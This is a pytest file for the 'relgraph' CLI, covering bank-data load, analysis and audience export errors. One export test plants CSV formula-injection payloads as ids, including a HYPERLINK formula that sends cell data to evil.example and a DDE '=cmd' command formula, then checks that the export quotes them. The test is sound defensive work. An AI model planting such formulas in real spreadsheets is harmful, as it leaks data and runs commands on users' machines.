"""The command line end to end: synth → load → stats, and the errors a user sees."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from relgraph.cli import app
from relgraph.store.embedded import EmbeddedStore

runner = CliRunner()


def _flat(output: str) -> str:
    """Output with rich's line wrapping undone."""
    return " ".join(output.split())


def test_synth_load_stats_analyze(tmp_path: Path) -> None:
    bank, data = tmp_path / "bank", tmp_path / "data"
    result = runner.invoke(
        app, ["synth", "--out", str(bank), "--customers", "300", "--dirty", "0.02"]
    )
    assert result.exit_code == 0, result.output
    assert "transfers" in result.output

    result = runner.invoke(app, ["load", str(bank), "--data-dir", str(data)])
    assert result.exit_code == 0, result.output
    report = json.loads((data / "load-report.json").read_text())
    assert all(t["rows_in"] == t["loaded"] + t["quarantined"] for t in report["tables"])
    assert sum(t["quarantined"] for t in report["tables"]) > 0
    assert "quarantine reasons" in result.output

    again = runner.invoke(app, ["load", str(bank), "--data-dir", str(data)])
    assert again.exit_code == 0
    assert "unchanged since the last load" in _flat(again.output)

    result = runner.invoke(app, ["stats", "--data-dir", str(data)])
    assert result.exit_code == 0, result.output

    analysed = runner.invoke(app, ["analyze", "--data-dir", str(data)])
    assert analysed.exit_code == 0, analysed.output
    assert "person_networks" in analysed.output
    with EmbeddedStore(data, read_only=True) as store:
        assert store.read_results("person_networks").num_rows == report["persons"]
        assert store.read_results("person_households").num_rows == report["persons"]
        assert {"networks", "network_links", "network_evidence", "households"} <= set(
            store.result_names()
        )
    assert "Account-TRANSFER->Account" in result.output
    assert f"Person │ {report['persons']:,} │" in _flat(result.output)


def test_load_without_a_required_table_fails_clearly(tmp_path: Path) -> None:
    bank = tmp_path / "bank"
    runner.invoke(
        app, ["synth", "--out", str(bank), "--customers", "50", "--export-style", "plain"]
    )
    (bank / "customers.csv").unlink()
    result = runner.invoke(app, ["load", str(bank), "--data-dir", str(tmp_path / "data")])
    assert result.exit_code == 2
    assert "required table(s) missing" in _flat(result.output)
    assert "customers" in result.output
    assert not (tmp_path / "data" / "load-report.json").exists()
    # "nothing written": a first load that stops leaves no empty store behind either
    assert not list((tmp_path / "data").glob("relgraph.duckdb*"))


def test_stats_before_any_load_says_what_to_do(tmp_path: Path) -> None:
    result = runner.invoke(app, ["stats", "--data-dir", str(tmp_path / "empty")])
    assert result.exit_code == 2
    assert "run `relgraph load DIR` first" in _flat(result.output)


def test_analyze_before_any_load_says_what_to_do(tmp_path: Path) -> None:
    result = runner.invoke(app, ["analyze", "--data-dir", str(tmp_path / "empty")])
    assert result.exit_code == 2
    assert "run `relgraph load DIR` first" in _flat(result.output)
    assert not (tmp_path / "empty").exists()


@pytest.mark.parametrize("command", ["stats", "analyze"])
def test_no_store_under_a_relative_data_dir_names_the_folder_it_looked_in(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    # Loaded from one folder, run from another (a service's): "no store at
    # relgraph-data/relgraph.duckdb: run `relgraph load DIR` first" told the operator to
    # load again what was loaded, without saying where it had looked.
    (tmp_path / "elsewhere").mkdir()
    monkeypatch.chdir(tmp_path / "elsewhere")
    result = runner.invoke(app, [command], env={"RELGRAPH_DATA_DIR": "relgraph-data"})
    assert result.exit_code == 2
    looked = tmp_path / "elsewhere" / "relgraph-data" / "relgraph.duckdb"
    assert (
        f"error: no store at {looked}: run `relgraph load DIR` first, or give --data-dir "
        "(RELGRAPH_DATA_DIR) the folder a load wrote"
    ) in _flat(result.output)


def test_bad_threshold_setting_is_named(tmp_path: Path) -> None:
    result = runner.invoke(
        app, ["analyze", "--data-dir", str(tmp_path)], env={"RELGRAPH_NETWORK_STRONG_LINK": "high"}
    )
    assert result.exit_code == 2
    assert "RELGRAPH_NETWORK_STRONG_LINK must be a number, not 'high'" in _flat(result.output)


@pytest.mark.parametrize("value", ["inf", "-inf", "Infinity"])
def test_an_endless_window_is_refused_on_one_line(tmp_path: Path, value: str) -> None:
    # float() reads "inf": the scan overflowed converting it to milliseconds, a traceback.
    result = runner.invoke(
        app,
        ["analyze", "--data-dir", str(tmp_path)],
        env={"RELGRAPH_LAYERING_WINDOW_HOURS": value},
    )
    assert result.exit_code == 2
    assert f"RELGRAPH_LAYERING_WINDOW_HOURS must be a finite number, not '{value}'" in _flat(
        result.output
    )


@pytest.mark.parametrize(
    ("variable", "value", "message"),
    [
        (
            "RELGRAPH_IDENTITY_THRESHOLD",
            "0.3",
            "IDENTITY thresholds need 0 < RELGRAPH_IDENTITY_REVIEW ≤ RELGRAPH_IDENTITY_THRESHOLD",
        ),
        ("RELGRAPH_IDENTITY_THRESHOLD", "high", "RELGRAPH_IDENTITY_THRESHOLD must be a number"),
        # A switch: 5 is neither v1 nor v2, and was taken for v2 without a word.
        ("RELGRAPH_IDENTITY_ENABLED", "5", "RELGRAPH_IDENTITY_ENABLED must be 0 or 1, not 5"),
    ],
)
def test_a_bad_identity_setting_stops_a_load_on_one_line(
    tmp_path: Path, variable: str, value: str, message: str
) -> None:
    # It was read deep inside the load: a ConfigError traceback, exit 1.
    (tmp_path / "bank").mkdir()
    data = tmp_path / "data"
    result = runner.invoke(
        app, ["load", str(tmp_path / "bank"), "--data-dir", str(data)], env={variable: value}
    )
    assert result.exit_code == 2
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert f"error: {message}" in _flat(result.output)
    assert not data.exists()


def test_a_misspelt_threshold_variable_stops_analyze(tmp_path: Path) -> None:
    result = runner.invoke(
        app, ["analyze", "--data-dir", str(tmp_path)], env={"RELGRAPH_LAYERING_WINDOW_HOURZ": "5"}
    )
    assert result.exit_code == 2
    assert (
        "error: RELGRAPH_LAYERING_WINDOW_HOURZ is not a setting: did you mean "
        "RELGRAPH_LAYERING_WINDOW_HOURS?"
    ) in _flat(result.output)


def test_synth_refuses_a_tiny_bank(tmp_path: Path) -> None:
    result = runner.invoke(app, ["synth", "--out", str(tmp_path / "b"), "--customers", "3"])
    assert result.exit_code == 2
    # Was "customers must be at least 10, got 3": the flag to change, by its name.
    assert _flat(result.output) == "error: --customers must be at least 10, not 3"
    assert not (tmp_path / "b").exists()


@pytest.mark.parametrize("where", ["a-file", "a-file/data"])
def test_a_data_dir_that_cannot_be_a_folder_stops_a_load_on_one_line(
    tmp_path: Path, where: str
) -> None:
    # mkdir's FileExistsError / NotADirectoryError came out as a traceback, exit 1.
    (tmp_path / "bank").mkdir()
    (tmp_path / "a-file").write_text("not a folder")
    data = tmp_path / where
    result = runner.invoke(app, ["load", str(tmp_path / "bank"), "--data-dir", str(data)])
    assert result.exit_code == 2
    assert result.exception is None or isinstance(result.exception, SystemExit)
    why = "a file, not a folder" if where == "a-file" else "Not a directory"
    assert f"error: cannot use {data} as the data directory ({why}): give --data-dir" in _flat(
        result.output
    )


@pytest.mark.parametrize(("out", "why"), [("nodir/schema.graphql", "No such file or directory"),
                                         (".", "Is a directory")])  # fmt: skip
def test_export_schema_to_a_path_it_cannot_write_stops_on_one_line(
    tmp_path: Path, out: str, why: str
) -> None:
    # write_text's FileNotFoundError / IsADirectoryError came out as a traceback, exit 1.
    target = tmp_path / out
    result = runner.invoke(app, ["export-schema", "--out", str(target)])
    assert result.exit_code == 2
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert f"error: cannot write the schema to {target} ({why}): give --out a file path" in (
        _flat(result.output)
    )


def test_synth_into_a_file_stops_on_one_line(tmp_path: Path) -> None:
    (tmp_path / "bank.csv").write_text("not a folder")
    result = runner.invoke(
        app, ["synth", "--out", str(tmp_path / "bank.csv"), "--customers", "300"]
    )
    assert result.exit_code == 2
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert (
        f"error: cannot write the synthetic bank to {tmp_path / 'bank.csv'} "
        "(a file, not a folder)" in _flat(result.output)
    )


@pytest.mark.parametrize("command", ["stats", "analyze", "serve"])
def test_an_unreachable_neo4j_is_a_clear_error_at_start_up(
    tmp_path: Path, command: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    import socket

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    monkeypatch.setenv("RELGRAPH_STORE", "neo4j")
    monkeypatch.setenv("NEO4J_URI", f"bolt://127.0.0.1:{port}")
    monkeypatch.setenv("NEO4J_PASSWORD", "secret-password")
    monkeypatch.setenv("RELGRAPH_NEO4J_RETRY_TIME", "0")
    monkeypatch.setenv("RELGRAPH_API_KEYS", "analyst:" + "k" * 32)
    result = runner.invoke(app, [command, "--data-dir", str(tmp_path)])
    assert result.exit_code == 2
    assert f"cannot reach Neo4j at bolt://127.0.0.1:{port}" in " ".join(result.output.split())
    assert "secret-password" not in result.output


class _UnreadableStore:
    """A store that opened (the server answered) but cannot read its database: a Neo4j
    whose database stopped itself after a full disk answers every statement so."""

    def close(self) -> None:
        pass

    def __getattr__(self, name: str) -> Any:
        from relgraph.store.base import StoreError

        def unreadable(*_: object, **__: object) -> Any:
            raise StoreError("read state: the database needs to be restarted")

        return unreadable


@pytest.mark.parametrize(
    "command",
    [
        ["stats"],
        ["analyze"],
        ["validate", "--truth", "truth"],
        ["audience", "--criteria", "criteria.json", "--out", "a.csv"],
    ],
)
def test_a_store_that_opens_but_cannot_be_read_is_one_line_not_a_traceback(
    tmp_path: Path, command: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(
        "relgraph.cli.common.store_opener", lambda *_, **__: lambda: _UnreadableStore()
    )
    monkeypatch.chdir(tmp_path)
    (tmp_path / "truth").mkdir()
    (tmp_path / "truth" / "persons.csv").write_text("customer_id,person_key\nC1,P1\n")
    (tmp_path / "criteria.json").write_text('{"unit": "HOUSEHOLD"}')
    result = runner.invoke(app, [*command, "--data-dir", str(tmp_path)])
    assert result.exit_code == 2, result.output
    assert "error: read state: the database needs to be restarted" in _flat(result.output)
    assert "Traceback" not in result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)


def test_load_stats_analyze_against_the_neo4j_store(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The CLI on RELGRAPH_STORE=neo4j, over the Python emulation of its statements."""
    from relgraph.config import Neo4jSettings
    from relgraph.store.neo4j import Neo4jStore
    from tests.store.emulator import EmulatedNeo4j

    database = EmulatedNeo4j()
    monkeypatch.setattr(
        Neo4jStore,
        "connect",
        classmethod(lambda cls, s, **_: cls(database, Neo4jSettings(batch_size=500))),
    )
    monkeypatch.setenv("RELGRAPH_STORE", "neo4j")
    bank, data = tmp_path / "bank", tmp_path / "data"
    assert runner.invoke(app, ["synth", "--out", str(bank), "--customers", "300"]).exit_code == 0
    loaded = runner.invoke(app, ["load", str(bank), "--data-dir", str(data)])
    assert loaded.exit_code == 0, loaded.output
    customers = database.named("customers_create")
    assert sum(len(c.params["rows"]) for c in customers) == 300
    again = runner.invoke(app, ["load", str(bank), "--data-dir", str(data)])
    assert again.exit_code == 0, again.output
    assert "unchanged" in again.output
    stats = runner.invoke(app, ["stats", "--data-dir", str(data)])
    assert stats.exit_code == 0, stats.output
    assert "CustomerRecord" in stats.output
    analysed = runner.invoke(app, ["analyze", "--data-dir", str(data)])
    assert analysed.exit_code == 0, analysed.output
    assert database.named("writeback_person_households")
    assert "households" in database.results_map()
    spec = tmp_path / "criteria.json"
    spec.write_text('{"unit": "HOUSEHOLD", "minSize": 2}', encoding="utf-8")
    out = tmp_path / "audience.csv"
    audience = runner.invoke(
        app, ["audience", "--criteria", str(spec), "--out", str(out), "--data-dir", str(data)]
    )
    assert audience.exit_code == 0, audience.output
    assert out.read_text(encoding="utf-8").startswith('"unit","unit_id"')


def test_a_neo4j_load_whose_deletes_stop_after_its_commit_keeps_its_report_and_quarantine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    """A real server whose disk filled while the load deleted the generation it replaced
    (after the commit) had the load exit 2 saying "the store keeps its last good load",
    and throw away the report and quarantine of the data the store then held."""
    from relgraph.config import Neo4jSettings
    from relgraph.store.base import StoreError
    from relgraph.store.neo4j import Neo4jStore
    from tests.store.emulator import EmulatedNeo4j

    database = EmulatedNeo4j()
    monkeypatch.setattr(
        Neo4jStore,
        "connect",
        classmethod(lambda cls, s, **_: cls(database, Neo4jSettings(batch_size=500))),
    )
    monkeypatch.setenv("RELGRAPH_STORE", "neo4j")
    first, second, data = tmp_path / "first", tmp_path / "second", tmp_path / "data"
    for bank, seed in ((first, "1"), (second, "2")):
        made = runner.invoke(
            app,
            ["synth", "--out", str(bank), "--customers", "300", "--seed", seed, "--dirty", "0.02"],
        )
        assert made.exit_code == 0, made.output
    assert runner.invoke(app, ["load", str(first), "--data-dir", str(data)]).exit_code == 0

    def panic(_: dict[str, Any]) -> Any:
        raise StoreError("delete old generation: Neo.DatabaseError.Transaction.TransactionLogError")

    database.overrides["prune_account"] = panic
    loaded = runner.invoke(app, ["load", str(second), "--data-dir", str(data)])
    assert loaded.exit_code == 0, loaded.output
    assert "the load is live; deleting the generation it replaced stopped" in caplog.text
    report = json.loads((data / "load-report.json").read_text(encoding="utf-8"))
    with Neo4jStore.connect(Neo4jSettings()) as store:
        assert report["fingerprint"] == store.meta()["fingerprint"]
    assert list((data / "quarantine").iterdir())
    # The next load that writes deletes what the stopped one left (one of the same data
    # writes nothing: "unchanged").
    del database.overrides["prune_account"]
    assert runner.invoke(app, ["load", str(first), "--data-dir", str(data)]).exit_code == 0
    with Neo4jStore.connect(Neo4jSettings()) as store:
        assert store.state().pending == ()


def test_analyze_with_gds_uses_the_gds_engine(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from relgraph.cli.common import configured_engine
    from relgraph.config import Neo4jSettings, Settings
    from relgraph.engines.gds import GdsEngine
    from relgraph.store.neo4j import Neo4jStore
    from tests.store.recording import RecordingRunner

    recorder = RecordingRunner(
        state={"gen": "g7", "meta": "{}", "tables": "{}", "results": "{}", "pending": []}
    )
    store = Neo4jStore(recorder, Neo4jSettings())
    made: list[str] = []
    monkeypatch.setattr(
        GdsEngine,
        "connect",
        classmethod(lambda cls, s, gen: made.append(gen) or cls(RecordingRunner(), gen, 10)),
    )
    settings = Settings.from_env({"RELGRAPH_STORE": "neo4j", "RELGRAPH_ANALYTICS_ENGINE": "gds"})
    engine = configured_engine(settings, store)
    assert isinstance(engine, GdsEngine)
    assert made == ["g7"]
    assert configured_engine(Settings.from_env({}), store) is None


def test_analyze_whose_pagerank_does_not_converge_writes_nothing_and_says_what_to_set(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    bank, data = tmp_path / "bank", tmp_path / "data"
    runner.invoke(app, ["synth", "--out", str(bank), "--customers", "300"])
    assert runner.invoke(app, ["load", str(bank), "--data-dir", str(data)]).exit_code == 0
    monkeypatch.setenv("RELGRAPH_INFLUENCE_MAX_ITERATIONS", "1")
    result = runner.invoke(app, ["analyze", "--data-dir", str(data)])
    assert result.exit_code != 0
    assert "did not converge" in _flat(result.output)
    assert "RELGRAPH_INFLUENCE_MAX_ITERATIONS" in _flat(result.output)
    with EmbeddedStore(data, read_only=True) as store:
        assert store.result_names() == []


# -- audience exports -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def analysed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hand-made audience bank, loaded and analysed."""
    from relgraph.graph import build_projection
    from relgraph.ingest import load_directory
    from relgraph.jobs.analyze import analyze
    from tests.analytics.test_audience import BANK
    from tests.banks import write_bank

    folder = tmp_path_factory.mktemp("cli-audience")
    with EmbeddedStore(folder / "data") as store:
        load_directory(
            write_bank(folder / "bank", BANK), store, folder / "data", id_secret="s" * 32
        )
        analyze(store, build_projection(store))
    return folder / "data"


def _criteria(folder: Path, text: str | bytes = '{"unit": "HOUSEHOLD"}') -> Path:
    path = folder / "criteria.json"
    path.write_bytes(text.encode() if isinstance(text, str) else text)
    return path


def _export(data: Path, criteria: Path, out: Path, *extra: str) -> Any:
    return runner.invoke(
        app,
        [
            "audience",
            "--criteria",
            str(criteria),
            "--out",
            str(out),
            "--data-dir",
            str(data),
            *extra,
        ],
    )


def _one_line_error(result: Any) -> str:
    assert result.exit_code == 2, result.output
    assert result.stdout == ""
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert lines[0].startswith("error: ")
    return str(lines[0])


def test_audience_csv_cells_a_spreadsheet_would_run_are_quoted(
    analysed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import csv
    import dataclasses
    import re

    import numpy as np

    # Ids that got past ingest (another system wrote the store): the export still holds.
    import relgraph.jobs.audience as jobs_audience
    from relgraph.analytics.audience import Criteria, campaign_audience
    from relgraph.analytics.audience_source import AudienceSource
    from relgraph.record_rules import INERT_SIGNED

    real = jobs_audience.audience_source
    hostile = [
        '=HYPERLINK("http://evil.example/?x="&A1)',
        "@SUM(1+1)",
        "\tP",
        "\rP",
        "+8613800138000",
        "-5",
    ]

    def from_store(store: Any) -> AudienceSource:
        source = real(store)
        n = len(source.parties.ids)
        ids = np.array([f"{hostile[i % len(hostile)]}.{i}" for i in range(n)], dtype=object)
        households = source.households
        assert households is not None
        units = np.array([f"=cmd|' /C calc'!A{i}" for i in range(len(households.ids))], object)
        return dataclasses.replace(
            source,
            parties=dataclasses.replace(source.parties, ids=ids),
            households=dataclasses.replace(households, ids=units, orders={}),
        )

    monkeypatch.setattr(jobs_audience, "audience_source", from_store)
    out = tmp_path / "audience.csv"
    result = _export(analysed, _criteria(tmp_path, '{"unit": "HOUSEHOLD", "minSize": 1}'), out)
    assert result.exit_code == 0, result.output
    with out.open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    with EmbeddedStore(analysed, read_only=True) as store:
        frame = campaign_audience(from_store(store), Criteria("HOUSEHOLD", min_size=1)).frame()
    assert len(rows) == len(frame) > 0

    def shown(text: str) -> str:
        signed = text[:1] in ("+", "-") and not re.fullmatch(INERT_SIGNED, text)
        return "'" + text if text[:1] in ("=", "@", "\t", "\r") or signed else text

    assert [r["unit_id"] for r in rows] == [shown(u) for u in frame["unit_id"]]
    assert [r["contacts"] for r in rows] == [shown(";".join(c)) for c in frame["contacts"]]
    firsts = {c[0][0] for c in frame["contacts"]}
    assert {"=", "@", "+", "-"} & firsts, "some entry should start with a hostile contact"
    assert any(r["contacts"].startswith(("+", "-")) for r in rows) == bool({"+", "-"} & firsts)
    # Numbers are written as they are: the values read back exactly.
    assert [float(r["deposits"]) for r in rows] == frame["deposits"].tolist()
    assert [int(r["contact_count"]) for r in rows] == frame["contact_count"].tolist()


@pytest.mark.parametrize("where", ["missing-folder", "a-folder", "existing-file"])
def test_audience_out_that_cannot_be_written_whole_is_one_line_error(
    analysed: Path, tmp_path: Path, where: str
) -> None:
    out = {
        "missing-folder": tmp_path / "no" / "such" / "audience.csv",
        "a-folder": tmp_path / "exports.csv",
        "existing-file": tmp_path / "audience.csv",
    }[where]
    if where == "a-folder":
        out.mkdir()
    if where == "existing-file":
        out.write_text("yesterday's audience\n", encoding="utf-8")
    criteria = _criteria(tmp_path)
    before = sorted(p.name for p in tmp_path.rglob("*"))
    line = _one_line_error(_export(analysed, criteria, out))
    assert {
        "missing-folder": "does not exist: create it or choose another",
        "a-folder": "is a folder: give a file name",
        "existing-file": "already exists: choose another name or pass --force",
    }[where] in line
    assert sorted(p.name for p in tmp_path.rglob("*")) == before  # nothing written, no partial
    if where == "existing-file":
        assert out.read_text(encoding="utf-8") == "yesterday's audience\n"


def test_audience_force_replaces_an_existing_export(analysed: Path, tmp_path: Path) -> None:
    out = tmp_path / "audience.csv"
    out.write_text("yesterday's audience\n", encoding="utf-8")
    result = _export(analysed, _criteria(tmp_path), out, "--force")
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith('"unit","unit_id"')
    listed = sorted(p.name for p in tmp_path.iterdir())
    assert listed == ["audience.csv", "audience.csv.json", "criteria.json"]


def test_a_failed_audience_export_leaves_no_partial_file(
    analysed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import pyarrow.csv as pacsv

    def half_then_fail(table: Any, handle: Any, *args: Any, **kwargs: Any) -> None:
        handle.write(b'"unit","unit_id"\n"HOUSEHOLD",')
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(pacsv, "write_csv", half_then_fail)
    out = tmp_path / "audience.csv"
    result = _export(analysed, _criteria(tmp_path), out)
    # Was: a traceback ending in "OSError: [Errno 28] No space left on device", exit 1.
    assert result.exit_code == 2, result.output
    assert _flat(result.output) == (
        f"error: could not write {out}: No space left on device; nothing was exported (no "
        "file was left): free space or choose another folder, then export again"
    )
    assert sorted(p.name for p in tmp_path.iterdir()) == ["criteria.json"]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (
            '{"unit": "HOUSEHOLD"}'.encode("utf-16"),
            "is not UTF-8 text: save the criteria as UTF-8 JSON",
        ),
        ("{'unit': 'HOUSEHOLD'}".encode("gbk"), "is not valid JSON: Expecting property name"),
        ("单位=家庭".encode("gbk"), "is not UTF-8 text"),
        (b"", "is not valid JSON: Expecting value"),
        (b'["HOUSEHOLD"]', "Criteria must be a JSON object"),
        (None, "does not exist"),
    ],
    ids=["utf-16", "not-json", "gbk", "empty", "not-an-object", "missing"],
)
def test_a_bad_criteria_file_is_one_line_error(
    analysed: Path, tmp_path: Path, content: bytes | None, message: str
) -> None:
    criteria = tmp_path / "criteria.json"
    if content is not None:
        criteria.write_bytes(content)
    out = tmp_path / "audience.csv"
    line = _one_line_error(_export(analysed, criteria, out))
    assert message in line
    assert not out.exists()


def test_a_criteria_file_with_a_byte_order_mark_is_read(analysed: Path, tmp_path: Path) -> None:
    criteria = _criteria(tmp_path, '{"unit": "HOUSEHOLD"}'.encode("utf-8-sig"))
    result = _export(analysed, criteria, tmp_path / "audience.parquet")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "audience.parquet").exists()


def test_a_damaged_journal_stops_the_load_with_its_file_and_what_to_do(tmp_path: Path) -> None:
    from relgraph.journal import TRANSFER, Journal

    bank, data = tmp_path / "bank", tmp_path / "data"
    assert runner.invoke(app, ["synth", "--out", str(bank), "--customers", "300"]).exit_code == 0
    record = {"tx_id": "J1", "from_account": "A1", "to_account": "A2", "amount": 1.0,
              "currency": "CNY", "ts": 1_780_000_000_000}  # fmt: skip
    Journal(data).append(TRANSFER, [record, {**record, "tx_id": "J2"}], by="test")
    (line, *rest) = (data / "journal" / "000001.jsonl").read_text().splitlines()
    damaged = line.replace('"amount":1.0', '"amount":9.0')
    assert damaged != line
    (data / "journal" / "000001.jsonl").write_text("\n".join([damaged, *rest]) + "\n")
    result = runner.invoke(app, ["load", str(bank), "--data-dir", str(data)])
    assert result.exit_code == 2, result.output
    assert "line 1 is damaged; restore the journal from a backup" in _flat(result.output)
    assert "Traceback" not in result.output
